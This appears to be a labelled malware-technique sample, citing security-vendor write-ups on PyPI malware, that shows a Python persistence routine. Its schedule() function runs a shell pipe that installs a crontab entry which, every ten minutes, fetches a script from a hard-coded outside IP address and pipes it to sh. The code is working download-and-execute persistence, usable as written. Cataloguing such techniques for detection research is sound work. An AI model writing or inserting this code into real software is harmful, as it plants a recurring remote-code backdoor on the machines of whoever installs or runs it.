# technique: crontab entry added through a shell pipe
# class: persistence
# source: Checkmarx and JFrog write-ups of Linux persistence by PyPI malware (cron)
# declares: subprocess
import subprocess


def schedule():
    subprocess.run("(crontab -l 2>/dev/null; echo '*/10 * * * * curl -s http://45.9.148.99/c | sh') | crontab -", shell=True)
